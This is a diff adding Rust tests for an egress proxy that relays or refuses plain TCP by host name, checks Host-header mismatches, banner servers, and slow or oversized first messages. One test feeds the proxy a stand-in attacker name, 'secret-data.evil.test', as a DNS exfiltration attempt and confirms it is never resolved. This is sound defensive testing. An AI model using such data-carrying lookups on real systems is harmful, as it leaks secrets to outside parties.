@@ -1,0 +1,171 @@
+//! Plain TCP by name (the capture path): relayed when allowed, closed when not, and the
+//! first message judged without holding up a server that speaks first.
+
+use super::*;
+
+#[tokio::test]
+async fn plain_tcp_by_name_is_relayed_when_allowed_and_closed_when_not() {
+    let (port, heads) = web_server().await;
+    let allow = ["web.test", "127.0.0.0/8"];
+    let s = setup(
+        &allow,
+        names(&["web.test", "other.test"]),
+        Vec::new(),
+        Limits::default(),
+    );
+    let ask = |host: &str| format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes();
+    let answer = s.tcp("web.test", port, &ask("web.test")).await;
+    assert!(answer.ends_with("hello"), "{answer}");
+    let record = s.sink.find("web.test", port).await;
+    assert_eq!(
+        (&record["allowed"], &record["kind"]),
+        (&true.into(), &"tcp".into()),
+        "{record}"
+    );
+    assert!(record["bytes_down"].as_u64().unwrap() > 20, "{record}");
+    // Denied: another name, closed without an answer.
+    assert_eq!(s.tcp("other.test", port, &ask("other.test")).await, "");
+    assert_denied(&s.sink.find("other.test", port).await, "not_allowed");
+    assert_eq!(heads.lock().unwrap().len(), 1);
+    // Denied: an allowed name whose first request names another host.
+    assert_eq!(s.tcp("web.test", port, &ask("other.test")).await, "");
+    assert_eq!(heads.lock().unwrap().len(), 1);
+    let records = s.sink.all(3).await;
+    let mismatch = records
+        .iter()
+        .find(|r| r["code"] == "host_mismatch")
+        .expect("a host_mismatch record");
+    assert_eq!(
+        (&mismatch["allowed"], &mismatch["bytes_up"]),
+        (&false.into(), &0.into()),
+        "{mismatch}"
+    );
+}
+
+/// A server that speaks first (as SSH or SMTP do), then echoes one line.
+async fn banner_server() -> u16 {
+    let listener = TcpListener::bind((LOOPBACK, 0)).await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let _ = stream.write_all(b"220 banner\r\n").await;
+                let mut line = [0u8; 64];
+                if let Ok(n) = stream.read(&mut line).await {
+                    let _ = stream.write_all(&line[..n]).await;
+                }
+            });
+        }
+    });
+    port
+}
+
+/// One command allowed `banner.test` (127.0.0.1, named by CIDR).
+fn banner_setup(limits: Limits) -> Setup {
+    let allow = ["banner.test", "127.0.0.0/8"];
+    setup(&allow, names(&["banner.test"]), Vec::new(), limits)
+}
+
+#[tokio::test]
+async fn a_server_that_speaks_first_is_heard_while_the_first_message_is_awaited() {
+    let port = banner_server().await;
+    let s = banner_setup(Limits::default());
+    let (mut ours, theirs) = tokio::net::UnixStream::pair().unwrap();
+    let (engine, ctx) = (s.engine.clone(), s.ctx.clone());
+    tokio::spawn(async move { engine.serve_tcp(ctx, theirs, "banner.test", port).await });
+    let mut banner = [0u8; 12];
+    tokio::time::timeout(Duration::from_secs(30), ours.read_exact(&mut banner))
+        .await
+        .expect("the banner comes before the command says anything")
+        .unwrap();
+    assert_eq!(&banner, b"220 banner\r\n");
+    // An SMTP command is not taken for an HTTP request line.
+    ours.write_all(b"EHLO me\r\n").await.unwrap();
+    assert_eq!(read_all(&mut ours).await, "EHLO me\r\n");
+    // The record is written when both directions are done.
+    drop(ours);
+    let record = s.sink.find("banner.test", port).await;
+    assert_eq!(
+        (
+            &record["allowed"],
+            &record["bytes_up"],
+            &record["bytes_down"]
+        ),
+        (&true.into(), &9.into(), &21.into()),
+        "{record}"
+    );
+}
+
+#[tokio::test]
+async fn a_first_message_that_is_too_slow_or_too_long_is_refused() {
+    let port = banner_server().await;
+    let s = banner_setup(Limits {
+        first_bytes: Duration::from_millis(300),
+        max_head: 8192,
+        ..Limits::default()
+    });
+    // A request head begun and never finished (our end stays open: the proxy closes).
+    s.tcp(
+        "banner.test",
+        port,
+        b"GET / HTTP/1.1\r\nHost: banner.test\r\n",
+    )
+    .await;
+    // A request head past the limit.
+    let mut long = b"GET / HTTP/1.1\r\nX-Pad: ".to_vec();
+    long.extend(std::iter::repeat_n(b'a', 9000));
+    s.tcp("banner.test", port, &long).await;
+    // Control: a whole, short head passes (the server echoes what it reads).
+    let whole = b"GET / HTTP/1.1\r\nHost: banner.test\r\n\r\n";
+    let answer = s.tcp("banner.test", port, whole).await;
+    assert!(answer.contains("GET / HTTP/1.1"), "{answer}");
+    let codes: Vec<Value> = s
+        .sink
+        .all(3)
+        .await
+        .iter()
+        .map(|r| r["code"].clone())
+        .collect();
+    for code in ["slow_first_message", "first_message_too_long", "allowed"] {
+        assert!(codes.contains(&code.into()), "{code} in {codes:?}");
+    }
+}
+
+/// Counts its lookups; answers 127.0.0.1.
+#[derive(Default)]
+struct Counting(std::sync::atomic::AtomicUsize);
+
+impl Resolver for Counting {
+    fn resolve<'a>(&'a self, _: &'a str, _: u16) -> crate::egress::resolve::Lookup<'a> {
+        self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        Box::pin(async move { Ok(vec![LOOPBACK]) })
+    }
+}
+
+#[tokio::test]
+async fn a_name_the_policy_refuses_is_never_looked_up() {
+    let (port, _) = web_server().await;
+    let counting = Arc::new(Counting::default());
+    let s = setup(
+        &["web.test", "127.0.0.0/8"],
+        counting.clone(),
+        Vec::new(),
+        Limits::default(),
+    );
+    let lookups = || counting.0.load(std::sync::atomic::Ordering::SeqCst);
+    // Denied: a name carrying data out (a lookup would reach the name's DNS server).
+    assert_eq!(s.tcp("secret-data.evil.test", port, b"").await, "");
+    let record = s.sink.find("secret-data.evil.test", port).await;
+    assert_denied(&record, "not_allowed");
+    assert_eq!(lookups(), 0);
+    // Control: the allowed name is looked up.
+    let answer = s
+        .tcp(
+            "web.test",
+            port,
+            b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n",
+        )
+        .await;
+    assert!(answer.ends_with("hello"), "{answer}");
+    assert_eq!(lookups(), 1);
+}
